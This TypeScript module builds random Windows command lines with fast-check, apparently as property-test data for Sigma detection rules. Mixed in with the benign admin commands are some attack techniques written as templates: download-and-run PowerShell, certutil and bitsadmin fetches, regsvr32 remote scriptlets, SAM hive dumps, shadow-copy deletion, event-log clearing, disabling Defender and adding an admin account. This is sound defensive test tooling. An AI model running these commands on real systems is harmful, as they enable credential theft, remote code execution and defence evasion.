/**
 * Command lines: the image quoted or not, with or without its folder and `.exe`, followed by
 * realistic arguments for the program (cmd, PowerShell, rundll32, regsvr32, schtasks, reg,
 * certutil, msiexec, wmic, net, sc, svchost, browsers...), flags written with `-`, `/` and,
 * rarely, the other `windash` characters (en dash, em dash, horizontal bar).
 */
import fc from 'fast-check';
import { Buffer } from 'node:buffer';
import { capitalise, fakerPool, oneOf, weighted } from './common.js';
import { bracedGuid, guid } from './guids.js';
import { accountName, computerName, netbiosDomain } from './identity.js';
import { hostName, ipv4, portNumber, privateIpv4, url } from './network.js';
import { serviceName, win32RegistryKey } from './registry-keys.js';
import type { ProgramInfo } from './windows-paths.js';
import {
  basename,
  dllName,
  documentName,
  knownPrograms,
  programPath,
  systemDlls,
  userWritableDir,
} from './windows-paths.js';

/** The five characters Sigma's `windash` modifier treats as interchangeable flag prefixes. */
export const WINDASH_CHARS = ['-', '/', '\u2013', '\u2014', '\u2015'] as const;
export type WindashChar = (typeof WINDASH_CHARS)[number];

/**
 * A flag prefix: one of the windash characters at the start of the text or after whitespace or
 * an opening quote, followed by a letter, digit or `?` (so `/c`, `-enc`, `--type`, `/?`, but not
 * the slashes of `http://` nor a dash inside a word).
 */
const FLAG_RE = /(^|[\s"'(])([-/\u2013\u2014\u2015])(?=[A-Za-z0-9?-])/g;

/** Positions of the flag-prefix characters of `text`. */
export function flagPositions(text: string): number[] {
  const out: number[] = [];
  for (const m of text.matchAll(FLAG_RE)) out.push((m.index ?? 0) + (m[1]?.length ?? 0));
  return out;
}

function replaceAt(text: string, positions: readonly number[], chars: readonly string[]): string {
  let out = '';
  let last = 0;
  positions.forEach((p, i) => {
    out += text.slice(last, p) + (chars[i] ?? text.charAt(p));
    last = p + 1;
  });
  return out + text.slice(last);
}

/**
 * `text` itself, then `text` with every flag prefix (see `flagPositions`) replaced by each windash
 * character in turn (`-`, `/`, en dash, em dash, horizontal bar), without duplicates: up to six
 * strings; just `[text]` when the text has no flags.
 */
export function windashVariants(text: string): string[] {
  const positions = flagPositions(text);
  if (positions.length === 0) return [text];
  return [...new Set([text, ...WINDASH_CHARS.map((c) => replaceAt(text, positions, positions.map(() => c)))])];
}

/** `text` with each flag prefix independently replaced by a windash character (shrinks to `-`). */
export function windashVariant(text: string): fc.Arbitrary<string> {
  const positions = flagPositions(text);
  if (positions.length === 0) return fc.constant(text);
  return fc
    .array(fc.constantFrom(...WINDASH_CHARS), { minLength: positions.length, maxLength: positions.length })
    .map((chars) => replaceAt(text, positions, chars));
}

/** PowerShell's `-EncodedCommand` encoding: Base64 of the UTF-16LE script. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const nouns = fakerPool(120, 0x5eed40, (f) => f.word.noun().toLowerCase()).filter((w) => /^[a-z]{3,12}$/.test(w));
const noun = oneOf(nouns);
const tempFile = (ext: string): fc.Arbitrary<string> => fc.tuple(userWritableDir, noun).map(([d, n]) => `${d}\\${n}.${ext}`);
const anyDoc = fc.tuple(userWritableDir, documentName).map(([d, f]) => `${d}\\${f}`);
const dllInUserDir = fc.tuple(userWritableDir, dllName).map(([d, f]) => `${d}\\${f}`);
const taskName = weighted<string>(
  [6, fc.constantFrom(
    'GoogleUpdateTaskMachineUA', 'MicrosoftEdgeUpdateTaskMachineCore', 'OneDrive Standalone Update Task-S-1-5-21-1004336348-1177238915-682003330-1001',
    '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag', '\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start', 'Adobe Acrobat Update Task',
  )],
  [4, noun.map((n) => `${capitalise(n)}Updater`)],
);
const psModules = ['Microsoft.PowerShell.Management', 'ActiveDirectory', 'Defender', 'NetSecurity', 'PSReadLine'] as const;

/** PowerShell one-liners, benign admin work mostly, some download-and-run. */
export const powershellCommand: fc.Arbitrary<string> = weighted<string>(
  [3, fc.constantFrom(
    'Get-Process', 'Get-Service | Where-Object {$_.Status -eq \'Running\'}', 'Get-WmiObject Win32_OperatingSystem',
    'Get-CimInstance -ClassName Win32_ComputerSystem', 'Get-ChildItem Env:', '$PSVersionTable', 'Get-HotFix',
    'Get-ExecutionPolicy -List', 'Get-NetIPConfiguration', 'Get-MpComputerStatus', 'Get-LocalUser',
  )],
  [2, fc.constantFrom(...psModules).map((m) => `Import-Module ${m}; Get-Command -Module ${m}`)],
  [2, fc.tuple(hostName, fc.constantFrom(443, 445, 3389, 5985)).map(([h, p]) => `Test-NetConnection -ComputerName ${h} -Port ${p}`)],
  [2, fc.tuple(url, tempFile('exe')).map(([u, f]) => `Invoke-WebRequest -Uri '${u}' -OutFile '${f}'`)],
  [1, url.map((u) => `IEX (New-Object Net.WebClient).DownloadString('${u}')`)],
  [1, win32RegistryKey.map((k) => `Get-ItemProperty -Path 'Registry::${k}'`)],
  [1, tempFile('log').map((f) => `Get-Content '${f}' -Tail 50`)],
  [1, fc.constantFrom('Set-MpPreference -DisableRealtimeMonitoring $true', 'Add-MpPreference -ExclusionPath \'C:\\ProgramData\'')],
);

/** PowerShell script text as in 4104 `ScriptBlockText`: one-liners, functions and module code. */
export const powershellScript: fc.Arbitrary<string> = weighted<string>(
  [5, powershellCommand],
  [2, fc.tuple(noun, powershellCommand).map(([n, c]) => `function Invoke-${capitalise(n)} {\n    param([string]$Path)\n    ${c}\n}`)],
  [2, fc.tuple(noun, noun).map(([a, b]) => `$${a} = Get-ChildItem -Path $env:TEMP -Filter *.${b.slice(0, 3)} -Recurse -ErrorAction SilentlyContinue\n$${a} | Remove-Item -Force`)],
  [1, fc.constantFrom('prompt', '{ Set-StrictMode -Version 1; $_.PSMessageDetails }', '$global:?', '{ Set-StrictMode -Version 1; $this.Exception.InnerException.PSMessageDetails }')],
);

const cmdBuiltin: fc.Arbitrary<string> = weighted<string>(
  [3, fc.constantFrom('dir', 'whoami', 'ver', 'set', 'hostname', 'ipconfig /all', 'net user', 'tasklist', 'cls', 'echo %PATH%', 'ping -n 1 127.0.0.1')],
  [2, fc.tuple(anyDoc, anyDoc).map(([a, b]) => `copy /y "${a}" "${b}"`)],
  [2, anyDoc.map((f) => `del /f /q "${f}"`)],
  [2, fc.tuple(userWritableDir, noun).map(([d, n]) => `start "" "${d}\\${n}.exe"`)],
  [1, anyDoc.map((f) => `type "${f}"`)],
  [2, tempFile('bat').map((f) => `"${f}"`)],
  [1, fc.tuple(userWritableDir, noun).map(([d, n]) => `mkdir "${d}\\${n}"`)],
  [1, fc.tuple(noun, tempFile('txt')).map(([n, f]) => `echo ${n} > "${f}"`)],
);

const regValueType = fc.constantFrom('REG_SZ', 'REG_DWORD', 'REG_EXPAND_SZ', 'REG_BINARY', 'REG_QWORD');

/** Argument generators per program (lower-case file name). */
export const argumentsByProgram: ReadonlyMap<string, fc.Arbitrary<string>> = new Map<string, fc.Arbitrary<string>>([
  ['cmd.exe', fc.tuple(fc.constantFrom('/c', '/c', '/c', '/k', '/q /c', '/d /c'), cmdBuiltin, fc.boolean()).map(([s, c, q]) => (q ? `${s} "${c}"` : `${s} ${c}`))],
  ['powershell.exe', weighted<string>(
    [3, fc.tuple(fc.constantFrom('-NoProfile -ExecutionPolicy Bypass -File', '-ExecutionPolicy Bypass -File', '-NoLogo -NonInteractive -File', '-File'), tempFile('ps1')).map(([f, p]) => `${f} "${p}"`)],
    [3, fc.tuple(fc.constantFrom('-NoProfile -Command', '-c', '-Command', '-NoLogo -NonInteractive -Command', '-ExecutionPolicy Bypass -Command'), powershellCommand).map(([f, c]) => `${f} "${c.replaceAll('"', '\\"')}"`)],
    [1, fc.tuple(fc.constantFrom('-nop -w hidden -enc', '-NoProfile -EncodedCommand', '-e', '-ec', '-NoP -NonI -W Hidden -Exec Bypass -Enc'), powershellCommand).map(([f, c]) => `${f} ${encodePowerShell(c)}`)],
    [1, fc.constant('')],
  )],
  ['rundll32.exe', weighted<string>(
    [3, fc.constantFrom(
      'shell32.dll,Control_RunDLL', 'C:\\Windows\\system32\\shell32.dll,Control_RunDLL desk.cpl', 'advapi32.dll,ProcessIdleTasks',
      'printui.dll,PrintUIEntry /il', 'C:\\Windows\\System32\\WinHttpAutoProxySvc.dll,WinHttpAutoProxySvcEntry',
      'C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65792 WinX:0 WinY:0 IEFrame:0000000000000000',
      'Startupscan.dll,SusRunTask', 'C:\\Windows\\System32\\LogiLDA.dll,LogiFetch',
    )],
    [2, fc.tuple(dllInUserDir, fc.constantFrom('DllRegisterServer', '#1', 'Start', 'EntryPoint', 'DllMain', 'Run')).map(([d, e]) => `"${d}",${e}`)],
    [1, fc.tuple(oneOf(systemDlls), anyDoc).map(([d, f]) => `${d},OpenAs_RunDLL "${f}"`)],
  )],
  ['regsvr32.exe', weighted<string>(
    [4, fc.tuple(fc.constantFrom('/s', '/u /s', ''), dllInUserDir).map(([f, d]) => `${f} "${d}"`.trim())],
    [1, url.map((u) => `/s /n /u /i:${u} scrobj.dll`)],
  )],
  ['schtasks.exe', weighted<string>(
    [3, fc.tuple(taskName, tempFile('exe'), fc.constantFrom('daily /st 09:00', 'onlogon', 'minute /mo 30', 'onstart'), fc.constantFrom('', ' /ru SYSTEM', ' /rl HIGHEST')).map(([n, p, sc, ru]) => `/create /tn "${n}" /tr "${p}" /sc ${sc}${ru} /f`)],
    [2, fc.constantFrom('/query /fo LIST /v', '/query /fo CSV /nh', '/query')],
    [2, taskName.map((n) => `/run /tn "${n}"`)],
    [1, taskName.map((n) => `/delete /tn "${n}" /f`)],
    [1, taskName.map((n) => `/change /tn "${n}" /disable`)],
  )],
  ['reg.exe', weighted<string>(
    [3, fc.tuple(win32RegistryKey, noun, regValueType, tempFile('exe')).map(([k, v, t, d]) => `add "${k}" /v ${capitalise(v)} /t ${t} /d "${d}" /f`)],
    [2, fc.tuple(win32RegistryKey, noun).map(([k, v]) => `add "${k}" /v ${capitalise(v)} /t REG_DWORD /d 1 /f`)],
    [3, win32RegistryKey.map((k) => `query "${k}"`)],
    [1, fc.tuple(win32RegistryKey, noun).map(([k, v]) => `delete "${k}" /v ${capitalise(v)} /f`)],
    [1, fc.tuple(fc.constantFrom('HKLM\\SAM', 'HKLM\\SYSTEM', 'HKLM\\SECURITY'), userWritableDir).map(([h, d]) => `save ${h} "${d}\\${h.slice(5).toLowerCase()}.save" /y`)],
  )],
  ['certutil.exe', weighted<string>(
    [2, fc.tuple(url, tempFile('exe')).map(([u, f]) => `-urlcache -split -f ${u} "${f}"`)],
    [2, fc.tuple(tempFile('txt'), tempFile('exe')).map(([a, b]) => `-decode "${a}" "${b}"`)],
    [1, fc.tuple(tempFile('exe'), tempFile('txt')).map(([a, b]) => `-encode "${a}" "${b}"`)],
    [3, fc.tuple(anyDoc, fc.constantFrom('SHA256', 'MD5', 'SHA1')).map(([f, h]) => `-hashfile "${f}" ${h}`)],
    [2, fc.constantFrom('-store My', '-verifystore Root', '-syncWithWU -f C:\\Windows\\Temp\\wu', '-addstore -f Root C:\\Windows\\Temp\\ca.cer')],
  )],
  ['msiexec.exe', weighted<string>(
    [3, fc.tuple(tempFile('msi'), fc.constantFrom('/qn', '/quiet /norestart', '/passive', '')).map(([m, q]) => `/i "${m}" ${q}`.trim())],
    [2, bracedGuid.map((g) => `/x ${g} /qn`)],
    [3, fc.constantFrom('/V', '-Embedding 8A3E2F1C0B9D4E5F6A7B8C9D0E1F2A3B E Global\\MSI0000')],
    [1, url.map((u) => `/q /i ${u}`)],
  )],
  ['wmic.exe', weighted<string>(
    [3, fc.constantFrom('os get Caption,Version /value', 'qfe list brief', 'computersystem get domain', 'logicaldisk get caption,freespace', 'process list brief', 'shadowcopy delete /nointeractive')],
    [1, tempFile('exe').map((p) => `process call create "${p}"`)],
    [1, privateIpv4.map((h) => `/node:${h} process list brief`)],
    [1, noun.map((n) => `product where name="${capitalise(n)}" call uninstall /nointeractive`)],
  )],
  ['net.exe', weighted<string>(
    [2, accountName.map((a) => `user ${a} /domain`)],
    [2, fc.constantFrom('view', 'session', 'share', 'use', 'accounts', 'localgroup administrators', 'group "Domain Admins" /domain', 'time')],
    [1, accountName.map((a) => `user ${a} P@ssw0rd123! /add`)],
    [1, accountName.map((a) => `localgroup administrators ${a} /add`)],
    [2, fc.tuple(computerName, fc.constantFrom('C$', 'ADMIN$', 'IPC$', 'share', 'Public'), netbiosDomain, accountName).map(([h, s, d, a]) => `use \\\\${h}\\${s} /user:${d}\\${a}`)],
    [2, fc.tuple(fc.constantFrom('start', 'stop'), serviceName).map(([v, s]) => `${v} ${s}`)],
  )],
  ['sc.exe', weighted<string>(
    [3, fc.tuple(fc.constantFrom('query', 'qc', 'start', 'stop', 'queryex', 'sdshow'), serviceName).map(([v, s]) => `${v} ${s}`)],
    [1, fc.tuple(serviceName, tempFile('exe')).map(([s, p]) => `create ${s} binPath= "${p}" start= auto`)],
    [1, fc.tuple(serviceName, fc.constantFrom('disabled', 'auto', 'demand')).map(([s, t]) => `config ${s} start= ${t}`)],
    [1, computerName.map((h) => `\\\\${h} query`)],
  )],
  ['svchost.exe', fc.constantFrom(
    '-k netsvcs -p -s Schedule', '-k netsvcs -p -s Winmgmt', '-k LocalService -p -s nsi', '-k DcomLaunch -p', '-k RPCSS -p',
    '-k NetworkService -p -s Dnscache', '-k UnistackSvcGroup', '-k wsappx -p -s AppXSvc', '-k LocalSystemNetworkRestricted -p -s SysMain',
    '-k LocalServiceNetworkRestricted -p -s EventLog', '-k netsvcs -p -s BITS', '-k LocalServiceNoNetworkFirewall -p', '-k utcsvc -p',
  )],
  ['conhost.exe', fc.constantFrom('0xffffffff -ForceV1', '0x4', '')],
  ['chrome.exe', weighted<string>(
    [4, fc.tuple(fc.constantFrom('renderer', 'utility --utility-sub-type=network.mojom.NetworkService', 'gpu-process', 'crashpad-handler'), fc.integer({ min: 1, max: 9999 }), fc.noBias(fc.integer({ min: 1e15, max: 9e15 }))).map(([t, n, h]) => `--type=${t} --field-trial-handle=1900,i,${h},${n},262144 --lang=en-US --mojo-platform-channel-handle=${n * 3} /prefetch:${(n % 8) + 1}`)],
    [1, url.map((u) => `--single-argument ${u}`)],
    [1, fc.constant('')],
  )],
  ['msedge.exe', weighted<string>(
    [4, fc.tuple(fc.constantFrom('renderer', 'utility --utility-sub-type=storage.mojom.StorageService', 'gpu-process'), fc.integer({ min: 1, max: 9999 })).map(([t, n]) => `--type=${t} --field-trial-handle=2064,i,${n},262144 --variations-seed-version --mojo-platform-channel-handle=${n * 2} /prefetch:${(n % 8) + 1}`)],
    [1, fc.constantFrom('--no-startup-window --win-session-start', '--profile-directory=Default', '')],
  )],
  ['firefox.exe', fc.tuple(fc.integer({ min: 1, max: 99 }), fc.integer({ min: 1000, max: 99999 })).map(([c, p]) => `-contentproc --channel="${p}.${c}.${c * 7}" -childID ${c} -isForBrowser -prefsLen ${p} -appDir "C:\\Program Files\\Mozilla Firefox\\browser" ${p} tab`)],
  ['explorer.exe', weighted<string>([3, fc.constant('')], [1, fc.constant('/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding')], [1, anyDoc.map((f) => `/select,"${f}"`)])],
  ['notepad.exe', weighted<string>([1, fc.constant('')], [2, anyDoc.map((f) => `"${f}"`)])],
  ['taskhostw.exe', fc.constantFrom('', '{222A245B-E637-4AE9-A93F-A59CA119A75E}', 'Install $(Arg0)', 'NGCKeyPregen', 'SYSTEM')],
  ['dllhost.exe', fc.constantFrom('/Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}', '/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', '/Processid:{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}')],
  ['runtimebroker.exe', fc.constant('-Embedding')],
  ['backgroundtaskhost.exe', fc.constantFrom('-ServerName:BackgroundTaskHost.WebAccountProvider', '-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', '-ServerName:CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca')],
  ['searchprotocolhost.exe', fc.integer({ min: 1, max: 99 }).map((n) => `Global\\UsGthrFltPipeMssGthrPipe${n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${n} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"`)],
  ['searchfilterhost.exe', fc.integer({ min: 100, max: 9999 }).map((n) => `0 ${n} ${n + 4} ${n + 12} 8192 ${n + 8}`)],
  ['wmiprvse.exe', fc.constantFrom('-secured -Embedding', '-Embedding')],
  ['whoami.exe', fc.constantFrom('', '/all', '/priv', '/groups', '/user', '/fqdn')],
  ['ipconfig.exe', fc.constantFrom('/all', '/flushdns', '/release', '/renew', '/displaydns', '')],
  ['ping.exe', fc.tuple(fc.constantFrom('-n 1', '-n 4 -w 1000', '-t', ''), weighted<string>([1, ipv4], [1, hostName])).map(([f, h]) => `${f} ${h}`.trim())],
  ['tasklist.exe', fc.constantFrom('/v', '/svc', '/m', '/fi "imagename eq lsass.exe"', '/fo csv /nh', '')],
  ['mshta.exe', weighted<string>([2, tempFile('hta').map((f) => `"${f}"`)], [1, url])],
  ['cscript.exe', fc.tuple(fc.constantFrom('//nologo', '//B //E:jscript', '//NoLogo //B', ''), tempFile('vbs')).map(([f, s]) => `${f} "${s}"`.trim())],
  ['wscript.exe', fc.tuple(fc.constantFrom('//B', '//E:vbscript', ''), tempFile('vbs')).map(([f, s]) => `${f} "${s}"`.trim())],
  ['bitsadmin.exe', weighted<string>([2, fc.tuple(noun, url, tempFile('exe')).map(([j, u, f]) => `/transfer ${j} /download /priority normal ${u} "${f}"`)], [1, fc.constant('/list /allusers /verbose')])],
  ['netsh.exe', weighted<string>(
    [2, fc.constantFrom('interface show interface', 'wlan show profiles', 'winhttp show proxy', 'advfirewall show allprofiles', 'interface ip show config')],
    [1, fc.tuple(noun, portNumber).map(([n, p]) => `advfirewall firewall add rule name="${capitalise(n)}" dir=in action=allow protocol=TCP localport=${p}`)],
    [1, fc.tuple(portNumber, privateIpv4, portNumber).map(([l, a, p]) => `interface portproxy add v4tov4 listenport=${l} connectaddress=${a} connectport=${p}`)],
  )],
  ['vssadmin.exe', fc.constantFrom('list shadows', 'list writers', 'delete shadows /all /quiet', 'create shadow /for=C:', 'resize shadowstorage /for=C: /on=C: /maxsize=10%')],
  ['wevtutil.exe', fc.constantFrom('qe Security /c:5 /rd:true /f:text', 'cl System', 'el', 'gl Microsoft-Windows-Sysmon/Operational', 'epl Security C:\\Windows\\Temp\\sec.evtx')],
  ['curl.exe', weighted<string>([2, fc.tuple(url, tempFile('exe')).map(([u, f]) => `-s -o "${f}" ${u}`)], [2, url], [1, url.map((u) => `-k -X POST -d @data.json ${u}`)])],
  ['consent.exe', fc.tuple(fc.integer({ min: 400, max: 20000 }), fc.noBias(fc.integer({ min: 0x10000000, max: 0x7fffffff }))).map(([p, a]) => `${p} 280 000001${a.toString(16).toUpperCase()}`)],
  ['wermgr.exe', fc.tuple(fc.constantFrom('-upload', '-queuereporting', '-outproc 0'), fc.integer({ min: 400, max: 20000 })).map(([f, p]) => (f === '-outproc 0' ? `${f} ${p} 1 ${p * 2}` : f))],
  ['mpcmdrun.exe', fc.constantFrom('-SignatureUpdate', '-Scan -ScanType 1', '-wdenable', '-IdleTask -TaskName WdCacheMaintenance', 'SpyNetServiceDss -RestrictPrivileges -AccessKey 0A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9 -Reinvoke')],
  ['winword.exe', weighted<string>([2, tempFile('docx').map((f) => `/n "${f}" /o ""`)], [1, fc.constant('/automation -Embedding')])],
  ['excel.exe', weighted<string>([2, tempFile('xlsx').map((f) => `"${f}"`)], [1, fc.constant('/automation -Embedding')])],
  ['outlook.exe', fc.constantFrom('', '/recycle', '-Embedding')],
  ['onedrive.exe', fc.constantFrom('/background', '/updateInstalled /background', '/sharedlibrary')],
  ['teams.exe', fc.constantFrom('--system-initiated', '--type=renderer --autoplay-policy=no-user-gesture-required', '--processStart "Teams.exe"')],
  ['code.exe', weighted<string>([2, fc.constantFrom('--type=renderer', '--type=utility --utility-sub-type=node.mojom.NodeService')], [1, userWritableDir.map((d) => `"${d}"`)])],
  ['7z.exe', fc.tuple(tempFile('zip'), userWritableDir).map(([z, d]) => `x "${z}" -o"${d}" -y`)],
  ['notepad++.exe', anyDoc.map((f) => `"${f}"`)],
  ['git.exe', fc.constantFrom('fetch --all', 'status', 'pull', 'clone https://github.com/octocat/Hello-World.git', 'log -1 --format=%H')],
  ['python.exe', weighted<string>([2, tempFile('py').map((f) => `"${f}"`)], [1, noun.map((n) => `-m pip install ${n}`)])],
  ['compattelrunner.exe', fc.constantFrom('-m:appraiser.dll -f:DoScheduledTelemetryRun', '-maintenance', '-m:aeinv.dll -f:UpdateSoftwareInventoryW invsvc')],
  ['wuauclt.exe', guid.map((g) => `/UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId ${g} /RunHandlerComServer`)],
  ['usoclient.exe', fc.constantFrom('StartScan', 'StartInteractiveScan', 'StartDownload', 'StartInstall')],
  ['mousocoreworker.exe', fc.constant('-Embedding')],
  ['tiworker.exe', fc.constant('-Embedding')],
  ['smartscreen.exe', fc.constant('-Embedding')],
  ['net1.exe', fc.tuple(fc.constantFrom('user', 'start', 'localgroup administrators'), accountName).map(([v, a]) => (v === 'start' ? 'start' : `${v} ${a}`))],
]);

/** Arguments of unknown programs (installers, agents). */
const genericArguments: fc.Arbitrary<string> = weighted<string>(
  [4, fc.constant('')],
  [3, fc.constantFrom('/S', '--silent', '-install', '/quiet /norestart', '--update', '/VERYSILENT /SUPPRESSMSGBOXES', '-service', '--background')],
  [1, tempFile('ini').map((f) => `-config "${f}"`)],
  [1, portNumber.map((p) => `--port ${p}`)],
);

/** Realistic arguments for a program, by file name (unknown programs get installer-style flags). */
export function argumentsFor(exeName: string): fc.Arbitrary<string> {
  return argumentsByProgram.get(exeName.toLowerCase()) ?? genericArguments;
}

/**
 * How a command line names its image: `"C:\full\path.exe"` (the usual), `C:\full\path.exe`
 * (no spaces only), `name.exe` or `name` (typed at a prompt).
 */
export function formatImage(imagePath: string, style: 0 | 1 | 2 | 3): string {
  const name = basename(imagePath);
  switch (style) {
    case 0: return `"${imagePath}"`;
    case 1: return imagePath.includes(' ') ? `"${imagePath}"` : imagePath;
    case 2: return name;
    default: return name.replace(/\.exe$/i, '');
  }
}

const imageStyle = fc.constantFrom<0 | 1 | 2 | 3>(0, 0, 0, 0, 1, 1, 2, 2, 3);

/** A command line for the given image: the image in one of its spellings, then its arguments. */
export function commandLineFor(imagePath: string): fc.Arbitrary<string> {
  return fc.tuple(imageStyle, argumentsFor(basename(imagePath))).map(([style, args]) => formatCommandLine(imagePath, style, args));
}

/** One started process: the program's metadata, its `Image` and its `CommandLine`. */
export interface Invocation {
  readonly program: ProgramInfo;
  readonly image: string;
  readonly commandLine: string;
}

function formatCommandLine(image: string, style: 0 | 1 | 2 | 3, args: string): string {
  if (basename(image).toLowerCase() === 'conhost.exe') return `\\??\\${image} ${args}`.trimEnd();
  const head = formatImage(image, style);
  return args === '' ? head : `${head} ${args}`;
}

/**
 * A known program started with realistic arguments, weighted by how common the program is in
 * benign logs. Built without `chain`, so it shrinks and generates fast.
 */
export const invocation: fc.Arbitrary<Invocation> = fc.oneof(
  ...knownPrograms
    .filter((p) => p.weight > 0)
    .map((program) => ({
      weight: Math.max(1, Math.round(program.weight * 10)),
      arbitrary: fc
        .tuple(accountName, fc.integer({ min: 0, max: 11 }), imageStyle, argumentsFor(program.name))
        .map(([user, variant, style, args]): Invocation => {
          const image = programPath(program, user, variant);
          return { program, image, commandLine: formatCommandLine(image, style, args) };
        }),
    })),
);

/** A program path and a command line for it (as `Image` and `CommandLine` of one process). */
export const imageAndCommandLine: fc.Arbitrary<{ image: string; commandLine: string }> = invocation.map(({ image, commandLine: c }) => ({
  image,
  commandLine: c,
}));

const plainCommandLine: fc.Arbitrary<string> = weighted<string>(
  [9, invocation.map((x) => x.commandLine)],
  [1, fc.tuple(userWritableDir, noun, genericArguments).map(([d, n, a]) => `"${d}\\${n}.exe" ${a}`.trimEnd())],
);

/** Any command line; about one in twenty has its flags re-dashed with the other windash characters. */
export const commandLine: fc.Arbitrary<string> = weighted<string>(
  [19, plainCommandLine],
  [1, plainCommandLine.chain((c) => windashVariant(c))],
);

/** Known program names that have a dedicated argument generator. */
export const programsWithArguments: readonly string[] = knownPrograms
  .map((p) => p.name)
  .filter((n) => argumentsByProgram.has(n.toLowerCase()));

/** `ServiceFileName` / service `ImagePath` values: a quoted or bare binary path, sometimes with arguments. */
export const serviceImagePath: fc.Arbitrary<string> = weighted<string>(
  [4, fc.constantFrom('%SystemRoot%\\system32\\svchost.exe -k netsvcs -p', 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p', '%SystemRoot%\\System32\\drivers\\SysmonDrv.sys', 'C:\\Windows\\Sysmon64.exe')],
  [4, fc.tuple(fc.constantFrom('\\Program Files\\', '\\Program Files (x86)\\'), noun, noun).map(([p, c, s]) => `"C:${p}${capitalise(c)}\\${capitalise(s)}Service.exe"`)],
  [2, fc.tuple(userWritableDir, noun).map(([d, n]) => `${d}\\${n}.exe`)],
  [1, fc.tuple(fc.constant('%COMSPEC% /c '), tempFile('bat')).map(([a, b]) => `${a}"${b}"`)],
  [1, fc.constant('%SystemRoot%\\PSEXESVC.exe')],
);
